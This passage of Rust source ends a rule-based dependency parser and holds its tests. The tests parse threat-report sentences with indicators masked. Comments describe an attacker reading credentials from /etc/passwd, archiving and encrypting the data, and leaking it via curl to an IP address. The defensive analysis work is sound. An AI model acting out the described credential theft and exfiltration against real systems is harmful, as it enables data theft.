                (Some(_), _) => {
                    let host = left_verb.unwrap_or(0);
                    self.attach(i, host, DepLabel::Cc);
                }
                (None, Some(rh)) if rh <= i + 4 => {
                    // Nominal coordination.
                    if let Some(lh) = left_run {
                        self.attach(i, lh, DepLabel::Cc);
                        self.attach(rh, lh, DepLabel::Conj);
                    } else {
                        self.attach(i, left_verb.unwrap_or(0), DepLabel::Cc);
                    }
                }
                _ => {
                    self.attach(i, left_verb.or(left_run).unwrap_or(0), DepLabel::Cc);
                }
            }
        }
    }

    /// Subjects: nearest preceding unattached run head with no other verb
    /// in between. Controlled clauses (xcomp/pcomp/acl) have no overt
    /// subject — the NP before them belongs to the governing verb.
    fn attach_subjects(&mut self, verbs: &[usize], runs: &[Run]) {
        for &v in verbs {
            if self.heads[v].is_some()
                && matches!(
                    self.labels[v],
                    DepLabel::Xcomp | DepLabel::Pcomp | DepLabel::Acl
                )
            {
                continue;
            }
            let candidate = runs
                .iter()
                .rev()
                .find(|r| r.head < v && self.heads[r.head].is_none())
                .map(|r| r.head);
            if let Some(s) = candidate {
                // No verb strictly between subject and verb.
                if (s + 1..v).any(|j| self.is_verb(j)) {
                    continue;
                }
                let passive = self.is_passive_participle(v);
                self.attach(
                    s,
                    v,
                    if passive {
                        DepLabel::NsubjPass
                    } else {
                        DepLabel::Nsubj
                    },
                );
            }
        }
        // Copular root ("X is malicious"): subject of the AUX.
        if verbs.is_empty() {
            if let Some(cop) = (0..self.n()).find(|&i| self.tags[i] == PosTag::Aux) {
                if let Some(run) = runs.iter().rev().find(|r| r.head < cop) {
                    self.attach(run.head, cop, DepLabel::Nsubj);
                }
                if let Some(run) = runs.iter().find(|r| r.head > cop) {
                    self.attach(run.head, cop, DepLabel::Attr);
                }
            }
        }
    }

    /// Objects: the first unattached run head after each verb, before the
    /// next verb.
    fn attach_objects(&mut self, verbs: &[usize], runs: &[Run]) {
        for &v in verbs {
            let next_verb = verbs.iter().copied().find(|&u| u > v).unwrap_or(self.n());
            let candidate = runs
                .iter()
                .find(|r| r.head > v && r.head < next_verb && self.heads[r.head].is_none())
                .map(|r| r.head);
            if let Some(o) = candidate {
                self.attach(o, v, DepLabel::Dobj);
            }
        }
    }

    /// Punctuation and leftovers.
    fn attach_punct_and_rest(&mut self, root: usize) {
        for i in 0..self.n() {
            if self.heads[i].is_some() || i == root {
                continue;
            }
            if self.tags[i] == PosTag::Punct {
                // Attach to the previous non-punct token, else next.
                let host = (0..i)
                    .rev()
                    .find(|&j| self.tags[j] != PosTag::Punct)
                    .or_else(|| (i + 1..self.n()).find(|&j| self.tags[j] != PosTag::Punct))
                    .unwrap_or(root);
                self.attach(i, host, DepLabel::Punct);
            } else if self.tags[i] == PosTag::Adv {
                let host = self
                    .prev_verb(i)
                    .or_else(|| self.next_verb_within(i, 3))
                    .unwrap_or(root);
                self.attach(i, host, DepLabel::Advmod);
            } else {
                self.attach(i, root, DepLabel::Dep);
            }
        }
    }

    /// Breaks any accidental cycles and enforces a single root.
    fn repair(&mut self, root: usize) {
        self.heads[root] = None;
        self.labels[root] = DepLabel::Root;
        let n = self.n();
        for i in 0..n {
            // Walk up; if we revisit `i` or exceed n steps, re-root.
            let mut seen = vec![false; n];
            let mut cur = i;
            loop {
                if seen[cur] {
                    // Cycle: cut at `i`.
                    self.heads[i] = Some(root);
                    self.labels[i] = DepLabel::Dep;
                    break;
                }
                seen[cur] = true;
                match self.heads[cur] {
                    Some(h) => cur = h,
                    None => break,
                }
            }
        }
        // Multiple headless nodes → attach extras to root.
        for i in 0..n {
            if i != root && self.heads[i].is_none() {
                self.heads[i] = Some(root);
                self.labels[i] = DepLabel::Dep;
            }
        }
    }

    fn into_tree(self, root: usize) -> DepTree {
        let nodes = self
            .tokens
            .into_iter()
            .zip(self.tags)
            .zip(self.heads.iter().zip(self.labels))
            .map(|((token, pos), (&head, label))| DepNode {
                token,
                pos,
                head,
                label,
                ann: NodeAnn::default(),
            })
            .collect();
        DepTree { nodes, root }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::token::tokenize;

    fn parse_str(s: &str) -> DepTree {
        parse(tokenize(s, 0))
    }

    fn find(t: &DepTree, text: &str) -> usize {
        t.nodes
            .iter()
            .position(|n| n.token.text == text)
            .unwrap_or_else(|| panic!("no token `{text}` in {}", t.render()))
    }

    fn head_of<'a>(t: &'a DepTree, text: &str) -> (&'a str, DepLabel) {
        let i = find(t, text);
        let n = &t.nodes[i];
        let head = n
            .head
            .map(|h| t.nodes[h].token.text.as_str())
            .unwrap_or("ROOT");
        (head, n.label)
    }

    #[test]
    fn instrument_pattern_fig2_s1() {
        // Protected form of: "the attacker used /bin/tar to read user
        // credentials from /etc/passwd."
        let t = parse_str("the attacker used something to read user credentials from somethingX .");
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(head_of(&t, "used"), ("ROOT", DepLabel::Root));
        assert_eq!(head_of(&t, "attacker"), ("used", DepLabel::Nsubj));
        assert_eq!(head_of(&t, "something"), ("used", DepLabel::Dobj));
        assert_eq!(head_of(&t, "read"), ("used", DepLabel::Xcomp));
        assert_eq!(head_of(&t, "credentials"), ("read", DepLabel::Dobj));
        assert_eq!(head_of(&t, "from"), ("read", DepLabel::Prep));
        assert_eq!(head_of(&t, "somethingX"), ("from", DepLabel::Pobj));
    }

    #[test]
    fn pronoun_subject_and_to_phrase() {
        // "It wrote the gathered information to a file /tmp/upload.tar."
        let t = parse_str("It wrote the gathered information to a file somethingY .");
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(head_of(&t, "It"), ("wrote", DepLabel::Nsubj));
        assert_eq!(head_of(&t, "information"), ("wrote", DepLabel::Dobj));
        assert_eq!(head_of(&t, "to"), ("wrote", DepLabel::Prep));
        // NP head of "a file somethingY" is the dummy (last nominal).
        assert_eq!(head_of(&t, "somethingY"), ("to", DepLabel::Pobj));
        assert_eq!(head_of(&t, "file"), ("somethingY", DepLabel::Compound));
    }

    #[test]
    fn ioc_subject_with_verb_coordination() {
        // "/bin/bzip2 read from /tmp/upload.tar and wrote to /tmp/upload.tar.bz2."
        let t = parse_str("somethingA read from somethingB and wrote to somethingC .");
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(head_of(&t, "read"), ("ROOT", DepLabel::Root));
        assert_eq!(head_of(&t, "somethingA"), ("read", DepLabel::Nsubj));
        assert_eq!(head_of(&t, "somethingB"), ("from", DepLabel::Pobj));
        assert_eq!(head_of(&t, "wrote"), ("read", DepLabel::Conj));
        assert_eq!(head_of(&t, "to"), ("wrote", DepLabel::Prep));
        assert_eq!(head_of(&t, "somethingC"), ("to", DepLabel::Pobj));
    }

    #[test]
    fn gerund_acl_after_noun() {
        // "… which corresponds to the launched process /usr/bin/gpg
        // reading from /tmp/upload.tar.bz2"
        let t = parse_str(
            "which corresponds to the launched process somethingG reading from somethingH",
        );
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(head_of(&t, "reading"), ("somethingG", DepLabel::Acl));
        assert_eq!(head_of(&t, "somethingH"), ("from", DepLabel::Pobj));
        assert_eq!(head_of(&t, "process"), ("somethingG", DepLabel::Compound));
    }

    #[test]
    fn by_using_pattern() {
        // "He leaked the information by using /usr/bin/curl to connect to
        // 192.168.29.128."
        let t =
            parse_str("He leaked the information by using somethingU to connect to somethingV .");
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(head_of(&t, "using"), ("by", DepLabel::Pcomp));
        assert_eq!(head_of(&t, "somethingU"), ("using", DepLabel::Dobj));
        assert_eq!(head_of(&t, "connect"), ("using", DepLabel::Xcomp));
        assert_eq!(head_of(&t, "somethingV"), ("to", DepLabel::Pobj));
    }

    #[test]
    fn passive_with_agent() {
        let t = parse_str("somethingP was downloaded by the attacker .");
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(
            head_of(&t, "somethingP"),
            ("downloaded", DepLabel::NsubjPass)
        );
        assert_eq!(head_of(&t, "was"), ("downloaded", DepLabel::AuxPass));
        assert_eq!(head_of(&t, "by"), ("downloaded", DepLabel::Agent));
        assert_eq!(head_of(&t, "attacker"), ("by", DepLabel::Pobj));
    }

    #[test]
    fn apposition_parenthetical() {
        // "the curl utility (/usr/bin/curl)"
        let t =
            parse_str("the attacker leveraged the curl utility ( somethingQ ) to read the data");
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(head_of(&t, "somethingQ"), ("utility", DepLabel::Appos));
        assert_eq!(head_of(&t, "utility"), ("leveraged", DepLabel::Dobj));
        assert_eq!(head_of(&t, "read"), ("leveraged", DepLabel::Xcomp));
    }

    #[test]
    fn nominal_coordination() {
        let t = parse_str("the malware reads somethingM and somethingN nightly");
        assert!(t.validate().is_ok(), "{}", t.render());
        assert_eq!(head_of(&t, "somethingM"), ("reads", DepLabel::Dobj));
        assert_eq!(head_of(&t, "somethingN"), ("somethingM", DepLabel::Conj));
        assert_eq!(head_of(&t, "and"), ("somethingM", DepLabel::Cc));
    }

    #[test]
    fn copular_sentence() {
        let t = parse_str("the file is malicious");
        assert!(t.validate().is_ok(), "{}", t.render());
        let root = &t.nodes[t.root];
        assert_eq!(root.token.text, "is");
        assert_eq!(head_of(&t, "file"), ("is", DepLabel::Nsubj));
    }

    #[test]
    fn degenerate_inputs() {
        assert!(parse_str("").nodes.is_empty());
        let t = parse_str("something");
        assert!(t.validate().is_ok());
        let t = parse_str(". . .");
        assert!(t.validate().is_ok(), "{}", t.render());
        let t = parse_str("and or but");
        assert!(t.validate().is_ok(), "{}", t.render());
    }

    #[test]
    fn every_parse_is_a_valid_tree() {
        let sentences = [
            "After the lateral movement stage , the attacker attempts to steal valuable assets from the host .",
            "This stage mainly involves the behaviors of local and remote file system scanning activities .",
            "Then , the attacker leveraged somethingA utility to compress the tar file .",
            "After compression , the attacker used the tool to encrypt the zipped file .",
            "Finally , the attacker leveraged the curl utility ( somethingB ) to read the data from somethingC .",
            "He leaked the gathered sensitive information back to the attacker C2 host by using somethingD to connect to somethingE .",
        ];
        for s in sentences {
            let t = parse_str(s);
            assert!(t.validate().is_ok(), "sentence `{s}`: {}", t.render());
        }
    }
}
